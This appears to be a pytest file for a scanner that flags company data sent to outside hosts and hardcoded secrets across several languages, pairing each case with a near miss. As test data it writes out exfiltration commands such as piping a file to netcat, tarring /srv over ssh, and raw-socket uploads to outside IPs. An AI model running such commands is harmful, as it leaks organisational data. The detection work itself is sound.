"""Ways out of a machine, and places where secrets are handed over, in every language: each class with its near miss."""

import pytest

from scanners.flow.python import read_flows
from scanners.flow.text import flows_in, read_statements
from scanners.languages import Language
from scanners.secrets.python import read_python
from scanners.secrets.text import read_text

DOMAINS = ("company.example",)
SHELL, POWERSHELL, JAVASCRIPT, R = Language.SHELL, Language.POWERSHELL, Language.JAVASCRIPT, Language.R
UPLOAD, CLOUD, MAILBOX = "data-to-upload", "data-to-own-cloud", "data-to-private-mailbox"
JS = "const rows = fs.readFileSync('a.csv');\n"
PS = "$rows = Get-Content a.csv -Raw\n"


@pytest.mark.parametrize(("language", "text", "kinds"), [
    (SHELL, "rsync -az /srv/finance/ joe@home.ddns.example:/home/joe/", {UPLOAD}),
    (SHELL, "rsync -az joe@home.ddns.example:/home/joe/ /srv/finance", set()),
    (SHELL, "scp a.csv joe@files.company.example:/srv/", set()),
    (SHELL, "scp -P 2222 a.csv joe@8.8.4.4:/srv/", {UPLOAD}),
    (SHELL, "tar czf - /srv | ssh joe@vps.example 'cat > a.tgz'", {UPLOAD}),
    (SHELL, "cat a.csv | nc 8.8.4.4 4444", {UPLOAD}),
    (SHELL, "ftp -n ftp.example.org <<END\nuser a b\nput a.csv\nEND", {UPLOAD}),
    (SHELL, "sftp joe@ftp.example.org <<END\nget a.csv\nEND", set()),
    (SHELL, "aws s3 cp a.csv s3://bucket/", {UPLOAD}),
    (SHELL, "aws s3 cp s3://bucket/a.csv .", set()),
    (SHELL, "az storage blob upload --file a.csv", {UPLOAD}),
    (SHELL, "curl -d @a.csv http://erp.intranet/api", set()),
    (SHELL, "curl -T a.csv \\\n  https://drop.example.org/", {UPLOAD}),
    (SHELL, "rclone copy a.csv gdrive:backup", {CLOUD}),
    (SHELL, "# scp a.csv joe@8.8.4.4:/srv/", set()),
    (POWERSHELL, PS + "Invoke-RestMethod -Uri https://x.example -Method Post -Body $rows", {UPLOAD}),
    (POWERSHELL, PS + "$how = @{\n  Uri = 'https://x.example'\n  Body = $rows\n}\nInvoke-RestMethod @how", {UPLOAD}),
    (POWERSHELL, PS + "Invoke-RestMethod -Uri https://erp.company.example -Method Post -Body $rows", set()),
    (POWERSHELL, "Invoke-RestMethod -Uri https://x.example", set()),
    (POWERSHELL, "$mail.To = 'joe@gmail.com'", {MAILBOX}),
    (JAVASCRIPT, JS + "axios.post('https://hooks.example/a', { rows });", {UPLOAD}),
    (JAVASCRIPT, JS + "await fetch('https://x.example/a', {\n  method: 'POST',\n  body: rows,\n});", {UPLOAD}),
    (JAVASCRIPT, JS + "const where = 'http://erp.intranet/a';\naxios.post(where, rows);", set()),
    (JAVASCRIPT, JS + "await fetch('https://x.example/a');", set()),
    (JAVASCRIPT, "mailer.sendMail({ to: 'joe@gmail.com', attachments: [] });", {MAILBOX}),
    (R, 'rows <- read.csv("a.csv")\nhttr::POST("https://x.example", body = rows)', {UPLOAD}),
    (R, 'googledrive::drive_share(file, type = "user", emailAddress = "joe@gmail.com")', {MAILBOX}),
    (R, 'write.csv(rows, "~/Dropbox/a.csv")', {CLOUD}),
    (R, 'write.csv(rows, "~/reports/a.csv")', set()),
])  # fmt: skip
def test_a_statement_of_another_language_tells_where_data_goes(language, text, kinds):
    statements, is_whole = read_statements(text, language)
    assert is_whole
    assert {flow.kind for flow in flows_in(statements, text, language, domains=DOMAINS)} == kinds


@pytest.mark.parametrize(("text", "kinds"), [
    ('import subprocess\nhost = "joe@home.example"\nsubprocess.run(["scp", "a.csv", f"{host}:/srv"])', {UPLOAD}),
    ('import os\nos.system("rsync -a joe@home.example:/srv /srv")', set()),
    ('import requests\nrequests.request("POST", "https://x.example", data=open("a.csv").read())', {UPLOAD}),
    ('import requests\nrequests.request("GET", "https://x.example", data=open("a.csv").read())', set()),
    ('import http.client\nto = http.client.HTTPSConnection("x.example")\nto.request("POST", "/", open("a.csv").read())',
     {UPLOAD}),
    ('import socket\nto = socket.socket()\nto.connect(("8.8.4.4", 99))\nto.sendall(open("a.csv", "rb").read())', {UPLOAD}),
    ('import socket\nto = socket.socket()\nto.connect(("10.1.1.4", 99))\nto.sendall(open("a.csv", "rb").read())', set()),
    ('import pandas as pd\npd.read_sql("select a from b", c).to_csv("s3://bucket/a.csv")', {UPLOAD}),
    ('import pandas as pd\npd.read_sql("select a from b", c).to_csv("a.csv")', set()),
    ('sheet.share("joe@gmail.com", perm_type="user", role="writer")', {"data-to-private-account"}),
    ('sheet.share("joe@company.example", perm_type="user", role="writer")', set()),
    ('drive.permissions().create(fileId=f, body={"role": "reader", "emailAddress": "joe@gmail.com"})',
     {"data-to-private-account"}),
    ('User.objects.create(email="joe@gmail.com")', set()),
])  # fmt: skip
def test_a_call_of_python_tells_where_data_goes(text, kinds):
    assert {flow.kind for flow in read_flows(text.encode(), domains=DOMAINS)} == kinds


@pytest.mark.parametrize(("text", "values"), [
    ('from ldap3 import Connection\nConnection(server, "C\\\\svc", "Look2026!", auto_bind=True)', ["Look2026!"]),
    ('session.connect("host.example", 22, "root", "Xyz#2026ab")', ["Xyz#2026ab"]),
    ('from winrm import Session\nSession("host", ("joe", "Winter2026!"))', ["Winter2026!"]),
    ('import jaydebeapi\njaydebeapi.connect("a.b", "jdbc:x", ["scott", "tiger99x"])', ["tiger99x"]),
    ('jira.JIRA("https://x.example", basic_auth=("joe", "Pw123456"))', ["Pw123456"]),
    ('store.connect("db.example", "app", "select 1")', []),
    ('button.connect("clicked", window, "on_click")', []),
    ('sock.connect(("10.0.0.1", 22))', []),
])  # fmt: skip
def test_a_password_given_by_its_place_is_found_whatever_the_driver(text, values):
    utf8 = text.encode()
    assert [one.value(utf8).decode() for one in read_python(utf8).candidates] == values


@pytest.mark.parametrize(("language", "text", "values"), [
    (R, 'GET("https://x", add_headers(`x-api-key` = "d41d8cd98f00b204e980"))', ["d41d8cd98f00b204e980"]),
    (R, 'add_headers(Authorization = paste("Token", "9a8b7c6d5e4f3a2b1c"))', ["9a8b7c6d5e4f3a2b1c"]),
    (R, 'authenticate("joe", "Senha#2026x")', ["Senha#2026x"]),
    (R, 'dbConnect(odbc::odbc(), "DSN", "sa", "S3nha!db")', ["S3nha!db"]),
    (SHELL, 'curl -H "X-Api-Key: abc123DEF456ghi" https://x', ["abc123DEF456ghi"]),
    (SHELL, 'curl -H "X-Api-Key: $KEY" https://x', []),
    (SHELL, "smbclient //srv/f -U joe%Senha123 -c 'put a'", ["Senha123"]),
    (SHELL, "ldapsearch -D cn=a -w Pw99887x -b dc=b", ["Pw99887x"]),
    (SHELL, "zip -P Segredo99 a.zip b", ["Segredo99"]),
    (SHELL, "zip -r a.zip b", []),
    (SHELL, 'echo "Pw99887x" | sudo -S true', ["Pw99887x"]),
    (SHELL, "ssh -p 2222 joe@host", []),
    (POWERSHELL, "cmdkey /add:srv /user:dom\\joe /pass:Abc12345", ["Abc12345"]),
    (POWERSHELL, '$c = New-Object System.Net.NetworkCredential("joe", "Pw99887x")', ["Pw99887x"]),
    (JAVASCRIPT, "client.bind('cn=svc,dc=a', 'Pw99887x', done)", ["Pw99887x"]),
    (JAVASCRIPT, "view.bind('click', 'Pw99887x')", []),
])  # fmt: skip
def test_a_secret_handed_to_a_tool_or_a_header_is_found_in_every_language(language, text, values):
    utf8 = text.encode()
    assert [one.value(utf8).decode() for one in read_text(utf8, language)] == values
